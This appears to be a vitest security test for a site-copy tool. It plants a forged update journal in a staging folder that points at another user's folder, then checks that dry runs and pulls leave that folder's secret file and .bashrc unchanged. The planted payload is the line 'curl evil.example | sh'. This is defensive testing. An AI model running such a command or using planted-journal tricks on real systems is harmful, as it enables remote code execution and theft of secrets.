// An outsider's attacks on the update's journal (`<staging>/apply.json`): one planted in a copy's staging folder
// (by another user of a shared sites folder, or a tool) whose `path` names a folder that is not the copy. The
// journal is read and "rolled back" before anything else, even by a dry run or by a new restore into the same
// folder: its renames and rewrites must never reach outside the copy.
import { mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { scratch, type Scratch } from './lib';

let s: Scratch;
beforeEach(async () => void (s = await scratch()));
afterEach(() => s.cleanup());

/**
 * Plants, in the staging folder `work`, a journal that claims an update of `victim` stopped half way: one "moved
 * in" file (the victim's secret, to be moved back into the staging folder) and one "rewritten" file (the victim's
 * shell start-up file, to be put back from the planted copy). Every path is inside `victim` or `work`, as the
 * journal's own check wants.
 */
async function plant(work: string, victim: string): Promise<void> {
  await mkdir(join(work, 'apply-saved'), { recursive: true });
  await writeFile(join(work, 'apply-saved', '0'), 'curl evil.example | sh\n');
  await writeFile(
    join(work, 'apply.json'),
    JSON.stringify({
      version: 1,
      state: 'applying',
      path: victim,
      work,
      asides: [],
      ins: [{ from: join(work, 'downloads', 'loot'), to: join(victim, 'secret.txt') }],
      made: [],
      asideRoot: null,
      filesRoot: null,
      code: null,
      rewrites: [{ file: join(victim, '.bashrc'), saved: join(work, 'apply-saved', '0') }],
    }),
  );
}

async function victimFolder(): Promise<string> {
  const victim = join(s.home, 'private');
  await mkdir(victim);
  await writeFile(join(victim, 'secret.txt'), 'my secret\n');
  await writeFile(join(victim, '.bashrc'), 'export PS1=me\n');
  return victim;
}

describe('a journal planted in the staging folder that names another folder', () => {
  it('a dry run of copies update neither moves nor rewrites anything outside the copy', async () => {
    const sites = join(s.dir, 'sites');
    const copy = await s.pull('acme-blog.live', sites);
    const victim = await victimFolder();
    await plant(join(sites, '.acme-blog-live.lifeboat'), victim);

    await s.run(['--demo', 'copies', 'update', copy, '--dry-run']);

    // Promised: nothing written outside the copy (and a dry run writes nothing at all).
    expect(await readFile(join(victim, '.bashrc'), 'utf8')).toBe('export PS1=me\n');
    expect(await readdir(victim)).toEqual(expect.arrayContaining(['secret.txt', '.bashrc']));
    expect(await readFile(join(victim, 'secret.txt'), 'utf8')).toBe('my secret\n');
  });

  it('a first pull into a shared folder where another user planted it leaves that user’s victim alone', async () => {
    const sites = join(s.dir, 'shared-sites');
    const victim = await victimFolder();
    await plant(join(sites, '.acme-blog-live.lifeboat'), victim);

    await s.run(['--demo', 'pull', 'acme-blog.live', '--to', sites, '--element', 'files']);

    expect(await readFile(join(victim, '.bashrc'), 'utf8')).toBe('export PS1=me\n');
    expect(await readFile(join(victim, 'secret.txt'), 'utf8').catch(() => 'gone')).toBe('my secret\n');
  });
});
